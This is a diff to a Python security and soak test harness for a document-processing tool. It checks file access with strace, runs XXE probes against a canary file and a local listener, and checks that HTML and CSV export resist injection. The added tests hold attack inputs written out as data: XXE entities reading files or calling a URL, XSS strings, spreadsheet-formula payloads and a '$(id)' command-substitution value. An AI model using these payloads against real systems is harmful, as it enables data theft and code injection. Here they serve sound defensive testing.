@@ -8,13 +8,19 @@ Needs the executables, fault-worker and libfault-shim.so in one folder (swift bu
 is missed. A row that cannot run on this machine says so and counts as missed.
 """
 import argparse
+import csv
+import gzip
 import hashlib
+import html.parser
 import json
 import os
 import random
+import re
 import shutil
 import signal
+import socket
 import sqlite3
+import stat
 import subprocess
 import sys
 import tempfile
@@ -33,6 +39,29 @@ class Missed(Exception):
 def expect(condition, message):
     if not condition:
         raise Missed(message)
+
+
+class PageChecker(html.parser.HTMLParser):
+    """Counts elements and notes whatever could act: scripts, handlers, frames, links that are not to the web or within the page."""
+
+    def __init__(self):
+        super().__init__()
+        self.count, self.active, self.policy, self.text = 0, [], False, ""
+
+    def handle_starttag(self, tag, attrs):
+        self.count += 1
+        if tag in ("script", "iframe", "object", "embed", "base", "form", "img", "svg", "link"):
+            self.active.append(tag)
+        for key, value in attrs:
+            value = value or ""
+            if key.startswith("on") or key in ("src", "srcset", "style", "srcdoc"):
+                self.active.append(f"{tag} {key}")
+            if key == "href" and not value.startswith(("http://", "https://", "#")):
+                self.active.append(f"{tag} {value}")
+            self.policy |= key == "content" and "default-src 'none'" in value
+
+    def handle_data(self, data):
+        self.text += data
 
 
 class Soak:
@@ -465,11 +494,24 @@ class Soak:
         return f"9 times 75 in {1000 * seconds:.0f} ms together; the lock was free at once"
 
     def R11(self):
-        "a zoo of files: all accounted for, nothing outside read"
+        "a zoo of files, as an ordinary user: all accounted for, nothing outside the folder opened"
         folder, output = self.letters(2), self.folder("o")
+        outside = self.folder("outside")
+        with open(f"{outside}/secret.pdf", "w") as file:
+            file.write("letter of another folder")
         os.symlink("/etc/passwd", f"{folder}/link.pdf")
+        os.symlink(f"{outside}/secret.pdf", f"{folder}/link2.pdf")
+        os.symlink("nothing", f"{folder}/dangling.pdf")
         os.symlink(folder, f"{folder}/loop")
+        os.symlink(outside, f"{folder}/way-out")
         os.mkfifo(f"{folder}/pipe.pdf")
+        unix = socket.socket(socket.AF_UNIX)
+        unix.bind(f"{folder}/socket.pdf")
+        skipped, refused = 5, 2
+        if os.geteuid() == 0:
+            os.mknod(f"{folder}/null.pdf", stat.S_IFCHR | 0o666, os.makedev(1, 3))
+            os.mknod(f"{folder}/disk.pdf", stat.S_IFBLK | 0o666, os.makedev(7, 0))
+            skipped += 2
         os.mkdir(f"{folder}/folder.pdf")
         open(f"{folder}/empty.pdf", "w").close()
         names = [
@@ -478,16 +520,65 @@ class Soak:
         for name in names:
             with open(folder.encode() + b"/" + name, "wb") as file:
                 file.write(b"letter " + name.hex().encode())
+        os.mkdir(f"{folder}/many")
+        many = 1000 if self.quick else 10000
+        for number in range(many):
+            with open(f"{folder}/many/{number}.pdf", "w") as file:
+                file.write(f"one of many {number}")
         os.truncate(os.open(f"{folder}/sparse.pdf", os.O_CREAT | os.O_WRONLY), 10 << 30)
-        done = self.run(folder, output, allowed=(0, 1), timeout=60)
+        for name in ("closed.pdf", "closed/a.pdf"):
+            os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
+            with open(f"{folder}/{name}", "w") as file:
+                file.write("not for everybody")
+        trace = self.folder("trace")
+        os.chmod(trace, 0o777)
+        command = self.traced(self.command(folder, output), f"{trace}/t")
+        if os.geteuid() == 0:
+            # Mode 000 means nothing to root.
+            subprocess.run(["chown", "-R", "-h", "65534:65534", folder, output], check=True)
+            os.chmod(self.scratch, 0o755)
+            command = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"] + command
+        os.chmod(f"{folder}/closed.pdf", 0)
+        os.chmod(f"{folder}/closed", 0)
+        refused += 2
+        done = subprocess.run(command, capture_output=True, timeout=600)
+        unix.close()
+        os.chmod(f"{folder}/closed", 0o755)
+        expect(done.returncode == 1, f"ended with {done.returncode}: {done.stderr[-300:]}")
         files = self.close(output)
         expect(b"\x1b" not in done.stderr and b"root:" not in b"".join(self.tables(output).values()), "something leaked")
-        # A link, a pipe and two names that begin with a dot; nothing and too much.
-        expect(files["skipped"] == 4 and files["refused"] == 2 and files["ok"] == len(names) - 2 + 2, f"{files}")
+        # Beside links, pipes, sockets and devices two names that begin with a dot; nothing, too much and what is closed.
+        expect(files["skipped"] == skipped + 2 and files["refused"] == refused, f"{files}")
+        expect(files["ok"] == len(names) - 2 + 2 + many, f"{files}")
         with open(f"{output}/letters.jsonl", "rb") as file:
             lines = file.read().split(b"\n")
         expect(len(lines) == files["ok"] + 1, "a name broke a line")
-        return f"{files['seen']} seen, {files['ok']} ok, {files['skipped']} skipped, {files['refused']} refused"
+        opened, strangers = self.opened(f"{trace}/t", folder, output)
+        expect(not strangers, f"opened outside the folder: {sorted(strangers)[:5]}")
+        return (
+            f"{files['seen']} seen, {files['ok']} ok, {files['skipped']} skipped, {files['refused']} refused; "
+            f"{opened} files opened (strace), none outside but the system's own")
+
+    def traced(self, command, log):
+        """The command under strace, which writes down every file that is opened and every connection."""
+        expect(shutil.which("strace"), "strace is not on this machine")
+        return ["strace", "-f", "-y", "--seccomp-bpf", "-e", "trace=open,openat,openat2,creat,connect,sendto", "-o", log] + command
+
+    def opened(self, log, *allowed):
+        """How many files were opened, and those that lie neither in `allowed` nor are the system's."""
+        system = ("/usr/", "/lib", "/proc/", "/sys/", "/dev/null", "/dev/urandom", "/dev/shm/", self.bin, "/opt/")
+        single = {"/etc/ld.so.cache", "/etc/localtime", "/etc/nsswitch.conf", f"{self.scratch}/p.yaml"}
+        count, strangers = 0, set()
+        with open(log, encoding="utf-8", errors="replace") as file:
+            for line in file:
+                found = re.search(r" = \d+<(.*)>$", line.rstrip())
+                if not found or "connect(" in line or "sendto(" in line:
+                    continue
+                path = found.group(1)
+                count += 1
+                if not path.startswith(system + allowed + ("/etc/fonts", "/var/cache/fontconfig")) and path not in single:
+                    strangers.add(path)
+        return count, strangers
 
     def R12(self):
         "files that change while they are read: a record is of the bytes that were hashed"
@@ -517,11 +608,14 @@ class Soak:
         return f"{checked} records, each of the bytes its hash names"
 
     def R13(self):
-        "XXE: no byte of a canary in any output"
+        "XXE: no byte of a canary in any output, no connection, no file outside opened"
         folder, output, secret = self.folder("in"), self.folder("o"), f"canary{random.Random().getrandbits(64):x}"
         canary = f"{self.scratch}/canary"
         with open(canary, "w") as file:
             file.write(secret)
+        listener, calls = socket.create_server(("127.0.0.1", 0)), []
+        listener.settimeout(0.2)
+        port = listener.getsockname()[1]
         body = "<officiele-publicatie><kamerstuk><p>&x;</p></kamerstuk></officiele-publicatie>"
         attacks = [
             f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}">]>{body}',
@@ -531,16 +625,35 @@ class Soak:
             f'<?xml-stylesheet href="file://{canary}"?><a/>',
             '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
                 f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10)) + f"]>{body}"]
+        net = f"http://127.0.0.1:{port}/{secret}"
+        attacks += [attack.replace(f"file://{canary}", net) for attack in attacks if canary in attack]
+        attacks.append(f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{net}"/>')
         for number, attack in enumerate(attacks):
             with open(f"{folder}/{number}.xml", "w") as file:
                 file.write('<?xml version="1.0"?>' + attack)
-        done = self.run(folder, output, worker="griffier-worker", allowed=(0, 1))
+            with open(f"{folder}/{number}-gz.xml", "wb") as file:
+                file.write(gzip.compress(('<?xml version="1.0"?>' + attack).encode()))
+        trace = f"{self.scratch}/trace13"
+        done = subprocess.run(
+            self.traced(self.command(folder, output, worker="griffier-worker"), trace), capture_output=True, timeout=300)
+        expect(done.returncode in (0, 1), f"ended with {done.returncode}")
+        self.close(output)
+        try:
+            calls.append(listener.accept())
+        except TimeoutError:
+            pass
+        listener.close()
+        expect(not calls, "somebody called the listener")
+        opened, strangers = self.opened(trace, folder, output)
+        expect(not strangers, f"opened: {sorted(strangers)[:5]}")
+        with open(trace, encoding="utf-8", errors="replace") as file:
+            expect(not any("AF_INET" in line for line in file), "a connection was tried")
         for top, _, names in os.walk(output):
             for name in names:
                 with open(f"{top}/{name}", "rb") as file:
                     expect(secret.encode() not in file.read(), f"the canary is in {name}")
         expect(secret.encode() not in done.stdout + done.stderr, "the canary is in the log")
-        return f"{len(attacks)} attacks, 0 canary bytes"
+        return f"{len(attacks)} attacks, each plain and gzipped: 0 canary bytes, 0 connections, {opened} files opened, none foreign"
 
     def R14(self):
         "the worker tries what it must not do"
@@ -566,7 +679,49 @@ class Soak:
         for name, table in self.tables(output).items():
             text = table.decode()
             expect(len(text.splitlines()) == text.count("\n"), f"{name}: a line breaks for naive readers")
-        return f"{len(log.splitlines())} log lines, all JSON; lines = records in every table"
+        page, cells = self.injected()
+        return (
+            f"{len(log.splitlines())} log lines, all JSON; lines = records in every table; "
+            f"page of {page} elements without script or handler; {cells} CSV cells, none a formula")
+
+    def injected(self):
+        """Letters whose title, office, name and promises are payloads, as page and as tables for a spreadsheet."""
+        folder, output, to = self.folder("in"), self.folder("o"), self.folder("csv")
+        with open(f"{LETTERS}/twin-letter.xml", encoding="utf-8") as file:
+            model = file.read()
+        payloads = [
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "=HYPERLINK(\"http://x\")", "+1+1",
+            "-2+3", "@SUM(1)", "javascript:alert(1)", "\t=1", "]]>", "'\"`$(id)", "{{7*7}}", "\u202etxt\u2028"]
+        for number, payload in enumerate(payloads):
+            safe = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+            text = model.replace("Een hoofdlijnenbrief", f"{safe} Een brief over {safe}").replace("per brief", f"per {safe} brief")
+            text = text.replace("Structuur van de uitvoering werk en inkomen", safe).replace(
+                "De minister van Sociale Zaken en Werkgelegenheid,", f"{safe} De minister van {safe},").replace("G.H.J.", safe)
+            with open(f"{folder}/{number}{payload.replace('/', '_')}.xml", "w", encoding="utf-8") as file:
+                file.write(text)
+        self.run(folder, output, worker="griffier-worker")
+        page = f"{self.scratch}/report.html"
+        for command in (["export", "csv", "--output", output, "--to", to], ["report", "--output", output, "--to", page]):
+            done = subprocess.run([f"{self.bin}/griffier"] + command, capture_output=True, timeout=60)
+            expect(done.returncode == 0, f"{command[0]} ended with {done.returncode}: {done.stderr[-200:]}")
+        checker = PageChecker()
+        with open(page, encoding="utf-8") as file:
+            checker.feed(file.read())
+        expect(not checker.active, f"the page holds {checker.active[:3]}")
+        expect(checker.policy, "the page has no content security policy")
+        expect("alert(1)" in checker.text, "no payload reached the page")
+        cells, payload = 0, 0
+        for top, _, names in os.walk(to):
+            for name in names:
+                if name.endswith(".csv"):
+                    with open(f"{top}/{name}", newline="", encoding="utf-8-sig") as file:
+                        for row in csv.reader(file):
+                            cells += len(row)
+                            payload += any("SUM(1)" in cell for cell in row)
+                            expect(not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), f"{name}: {row}")
+        expect(payload, "no payload reached a cell")
+        return checker.count, cells
+
 
     def R16(self):
         "20,000 letters: flat memory and descriptors"
